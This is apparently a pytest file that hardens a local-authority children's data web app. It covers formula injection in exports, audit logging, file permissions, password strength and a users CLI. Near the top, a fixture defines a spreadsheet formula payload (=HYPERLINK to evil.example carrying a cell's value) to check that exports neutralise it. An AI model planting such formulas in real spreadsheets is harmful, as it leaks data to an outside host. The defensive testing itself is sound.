"""Issue 14 on a loaded LA: formula injection in the exports (4), audit rows naming the children
shown (7), private files, stale uploads and one transaction (8), awkward child ids (9), password
strength (6), `datamonger users` (10)."""

from __future__ import annotations

import csv
import io
import json
import stat
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote

import openpyxl
import pytest
from fastapi.testclient import TestClient

from datamonger.store import ALL_TABLES
from datamonger.web import WebConfig, audit, create_app
from datamonger.web.config import CHEAP
from datamonger.web.errors import WebError
from datamonger.web.services import Workbench
from tests.web.conftest import PASSWORD, csrf_from, make_workbench, sign_in
from tests.web.helpers import assert_error

WEIRD = "a/b %2F?c d#e"
EVIL = '=HYPERLINK("http://evil.example/?d="&B2,"x")'


@pytest.fixture(scope="module")
def la(tmp_path_factory: pytest.TempPathFactory, loaded_db: Path) -> Iterator[Workbench]:
    """The synthetic LA with two children renamed: one id a formula, one with `/ % ? #` and a
    space (ids as a malformed return could hold them; rule 1580 flags them)."""
    wb = make_workbench(tmp_path_factory.mktemp("hardening"), loaded_db)
    year = max(y for _, y, _ in wb.stamp())
    rows = wb.store.con.execute(
        "SELECT DISTINCT CHILD FROM ssda903_header WHERE collection_year = ? ORDER BY CHILD",
        [year],
    ).fetchall()
    with_issues = {r["child"] for r in wb.web.all("SELECT DISTINCT child FROM validation_issues")}
    old = [c for (c,) in rows if c in with_issues][:2]
    assert len(old) == 2
    for before, after in zip(old, (WEIRD, EVIL), strict=True):
        for spec in ALL_TABLES:
            if spec.return_ == "ssda903":
                wb.store.con.execute(
                    f"UPDATE {spec.store_name} SET CHILD = ? WHERE CHILD = ?", [after, before]
                )
        wb.web.execute("UPDATE validation_issues SET child = ? WHERE child = ?", [after, before])
    yield wb
    wb.close()


@pytest.fixture(scope="module")
def analyst(la: Workbench) -> Iterator[TestClient]:
    with TestClient(create_app(la.config, la)) as c:
        yield sign_in(c, "analyst")


def _last_audit(wb: Workbench, action: str = "view") -> dict[str, Any]:
    row = wb.web.one("SELECT * FROM audit WHERE action = ? ORDER BY id DESC LIMIT 1", [action])
    assert row is not None
    return dict(json.loads(row["detail"]), _ip=row["ip"])


def _children(wb: Workbench, detail: dict[str, Any]) -> set[str]:
    return set(audit.children_of(wb.web, detail))


def _issue_of(wb: Workbench, child: str) -> dict[str, Any]:
    row = wb.web.one(
        "SELECT * FROM validation_issues WHERE child = ? ORDER BY rule LIMIT 1", [child]
    )
    assert row is not None
    return row


# --- 9: any child id can be opened -------------------------------------------------------------
def test_a_child_id_with_slash_percent_question_mark_and_space_opens(
    la: Workbench, analyst: TestClient
) -> None:
    i = _issue_of(la, WEIRD)
    r = analyst.get(
        "/validation/line",
        params={"return": "ssda903", "table": i["table"], "file": i["file"], "line": i["line"]},
    )
    assert r.status_code == 200
    href = f"/children/{quote(WEIRD, safe='')}"
    assert f'href="{href}"' in r.text
    page = analyst.get(href)
    assert page.status_code == 200, page.text[-3000:]
    assert "Child a/b %2F?c d#e" in page.text
    api = analyst.get(f"/api{href}")
    assert api.status_code == 200 and api.json()["child"] == WEIRD
    # and the id as a query parameter (for ids such as `..` that no path can carry)
    assert analyst.get("/children/", params={"id": WEIRD}).status_code == 200
    assert_error(analyst.get("/children/", params={"id": ".."}), 404, "not_found")


# --- 4: formula injection in the exports --------------------------------------------------------
def _cells(content: bytes) -> list[tuple[Any, str]]:
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [
        (c.value, c.data_type)
        for ws in book.worksheets
        for row in ws.iter_rows()
        for c in row
        if c.value is not None
    ]


def test_exports_write_formula_like_values_as_text(la: Workbench, analyst: TestClient) -> None:
    r = analyst.get("/validation/export.xlsx")
    assert r.status_code == 200
    cells = _cells(r.content)
    assert (EVIL, "s") in cells
    assert not [c for c in cells if c[1] == "f"]
    assert any(t == "n" for _, t in cells)  # numbers stay numbers
    r = analyst.get("/framework/export.xlsx")
    assert r.status_code == 200 and not [c for c in _cells(r.content) if c[1] == "f"]


def _indicator_with(la: Workbench, child: str) -> str:
    from datamonger.indicators import all_indicators

    year = max(la.years())
    for ind in all_indicators():
        ex = la.explanation(ind.id, year)
        if any(r and r[0] == child for r in ex.rows):
            return str(ind.id)
    raise AssertionError(f"no indicator counts {child}")


def test_children_csv_prefixes_formula_like_values(la: Workbench, analyst: TestClient) -> None:
    ind = _indicator_with(la, EVIL)
    r = analyst.get(f"/framework/{ind}/children.csv")
    assert r.status_code == 200
    rows = list(csv.reader(io.StringIO(r.text)))
    assert [row[0] for row in rows if EVIL in row[0]] == ["'" + EVIL]
    assert not [c for row in rows for c in row if c.startswith(("=", "@", "\t", "\r"))]
    detail = _last_audit(la, "export")
    assert EVIL in _children(la, detail)  # 7: the export names the children it holds


# --- 7: audit rows name the children shown --------------------------------------------------------
def test_audit_rows_name_the_children_shown(la: Workbench, analyst: TestClient) -> None:
    i = _issue_of(la, WEIRD)
    r = analyst.get(f"/validation/rules/{i['return_name']}/{i['rule']}")
    assert r.status_code == 200
    shown = la.issues({"rule": i["rule"], "return": i["return_name"]}, 1)[0]
    assert _children(la, _last_audit(la)) == {x["child"] for x in shown if x["child"]}

    analyst.get(
        "/validation/line",
        params={"return": "ssda903", "table": i["table"], "file": i["file"], "line": i["line"]},
    )
    assert _children(la, _last_audit(la)) == {WEIRD}

    analyst.get(f"/children/{quote(WEIRD, safe='')}")
    assert _children(la, _last_audit(la)) == {WEIRD}

    ind = _indicator_with(la, WEIRD)
    analyst.get(f"/framework/{ind}/children")
    ex = la.explanation(ind, max(la.years()))
    assert _children(la, _last_audit(la)) == {r[0] for r in ex.rows[:500]}
    analyst.get(f"/api/indicators/{ind}/children")
    assert _children(la, _last_audit(la)) == {r[0] for r in ex.rows}

    r = analyst.get("/api/validation/issues", params={"rule": i["rule"]})
    assert _children(la, _last_audit(la)) == {x["child"] for x in r.json()["issues"] if x["child"]}

    analyst.get("/validation/export.xlsx")
    detail = _last_audit(la, "export")
    named = _children(la, detail)
    assert {WEIRD, EVIL} <= named and len(named) > 100  # every child in the workbook
    assert "children_ref" in detail  # a long list is kept once, by reference


# --- 8: private files, stale uploads, one transaction ---------------------------------------------
def test_web_and_subscribers_databases_are_private(tmp_path: Path) -> None:
    wb = Workbench(WebConfig(db=tmp_path / "la.duckdb", argon2=CHEAP, warm_caches=False))
    wb.accounts.create_user("analyst", PASSWORD, "analyst", must_change=False)
    try:
        with TestClient(create_app(wb.config, wb)) as c:
            sign_in(c, "analyst")
            assert c.get("/subscribers").status_code == 200
        for f in (wb.config.web_db, wb.config.subscribers_db):
            assert f.exists() and stat.S_IMODE(f.stat().st_mode) == 0o600, f
        assert stat.S_IMODE(wb.config.tmp_dir.stat().st_mode) == 0o700
    finally:
        wb.close()


def test_uploads_left_by_a_crash_are_removed_at_start(tmp_path: Path) -> None:
    config = WebConfig(db=tmp_path / "la.duckdb", argon2=CHEAP, warm_caches=False)
    left = config.tmp_dir / "upload-crashed"
    left.mkdir(parents=True)
    (left / "903_header.csv").write_text("CHILD\n1\n")
    wb = Workbench(config)
    wb.close()
    assert not left.exists()


def test_stored_results_and_their_audit_row_are_one_transaction(
    tmp_path: Path, loaded_db: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    wb = make_workbench(tmp_path, loaded_db)
    try:
        targets = sorted({(r, y) for r, y, _ in wb.stamp()})
        before = wb.web.all("SELECT * FROM validation_runs ORDER BY ALL")
        issues = wb.web.scalar("SELECT count(*) FROM validation_issues")
        audited = "SELECT count(*) FROM audit WHERE action = 'validate'"
        n0 = wb.web.scalar(audited)

        def dies(*args: Any, **kwargs: Any) -> None:
            raise KeyboardInterrupt  # killed between the results and their audit row

        monkeypatch.setattr(audit, "insert", dies)
        with pytest.raises(KeyboardInterrupt):
            wb.validate(targets, "analyst")
        assert wb.web.all("SELECT * FROM validation_runs ORDER BY ALL") == before
        assert wb.web.scalar("SELECT count(*) FROM validation_issues") == issues
        assert wb.web.scalar(audited) == n0
        monkeypatch.undo()
        wb.validate(targets, "analyst")
        rows = wb.web.all("SELECT * FROM audit WHERE action = 'validate' ORDER BY id")
        assert len(rows) == n0 + len(targets)  # one row per return and year, with its results
        assert [
            (json.loads(r["detail"])["return"], json.loads(r["detail"])["year"]) for r in rows[n0:]
        ] == targets
    finally:
        wb.close()


# --- 6: password strength -----------------------------------------------------------------------------
@pytest.mark.parametrize(
    "weak",
    [" " * 12, "password1234", "aaaaaaaaaaaa", "123456789012", "qwertyuiop12", "short"],
)
def test_weak_passwords_are_refused(la: Workbench, weak: str) -> None:
    with pytest.raises(WebError) as exc:
        la.accounts.validate_password(weak, "alice")
    assert exc.value.status == 400


@pytest.mark.parametrize(
    "strong", [PASSWORD, "plum lantern okapi ribbon", "Kx9!mQ2#vL7@pZ", "ümlaut wörter sind okay"]
)
def test_strong_passwords_are_accepted_with_no_composition_rule(la: Workbench, strong: str) -> None:
    la.accounts.validate_password(strong, "alice")


def test_the_password_page_explains_a_weak_password(analyst: TestClient) -> None:
    token = csrf_from(analyst.get("/account/password").text)
    r = analyst.post(
        "/account/password",
        data={
            "current": PASSWORD,
            "new": "password1234",
            "confirm": "password1234",
            "csrf_token": token,
        },
    )
    assert r.status_code == 400 and "common" in r.text.lower()


# --- 10: datamonger users -----------------------------------------------------------------------------
def test_users_command(tmp_path: Path) -> None:
    from typer.testing import CliRunner

    import datamonger.cli.users  # noqa: F401  (registers the commands)
    from datamonger.cli.app import app as cli

    db = tmp_path / "la.duckdb"
    Workbench(WebConfig(db=db, argon2=CHEAP, warm_caches=False)).close()  # `serve` ran once
    assert (
        CliRunner().invoke(cli, ["users", "list", "--db", str(tmp_path / "typo.duckdb")]).exit_code
        == 2
    )
    run = CliRunner()

    def users(*args: str, input: str | None = None) -> Any:
        return run.invoke(cli, ["users", *args, "--db", str(db)], input=input)

    r = users("add", "carol", "--role", "analyst")
    assert r.exit_code == 0, r.output
    first = next(
        line.split(":", 1)[1].strip() for line in r.output.splitlines() if "password:" in line
    )
    r = users("list")
    assert r.exit_code == 0 and "carol" in r.output and "analyst" in r.output
    assert "admin" in r.output  # the first administrator exists too
    assert users("add", "carol", "--role", "analyst").exit_code != 0  # already there

    wb = Workbench(WebConfig(db=db, argon2=CHEAP, warm_caches=False))
    for _ in range(8):
        wb.accounts.record_failure("carol", "192.0.2.1")
    assert wb.accounts.throttled("carol", "192.0.2.9") is not None
    assert wb.accounts.verify("carol", first) is not None
    wb.close()

    assert users("unlock", "carol").exit_code == 0
    r = users("reset-password", "admin")
    assert r.exit_code == 0, r.output
    new = next(
        line.split(":", 1)[1].strip() for line in r.output.splitlines() if "password:" in line
    )
    assert users("disable", "carol").exit_code == 0
    assert users("unlock", "nobody").exit_code != 0

    wb = Workbench(WebConfig(db=db, argon2=CHEAP, warm_caches=False))
    try:
        assert wb.accounts.throttled("carol", "192.0.2.9") is None
        assert wb.accounts.verify("carol", first) is None  # disabled
        row = wb.accounts.verify("admin", new)
        assert row is not None and row["must_change"]
        actions = [r["action"] for r in wb.web.all("SELECT action FROM audit ORDER BY id")]
        assert {"create_user", "unlock_user", "reset_user", "disable_user"} <= set(actions)
    finally:
        wb.close()
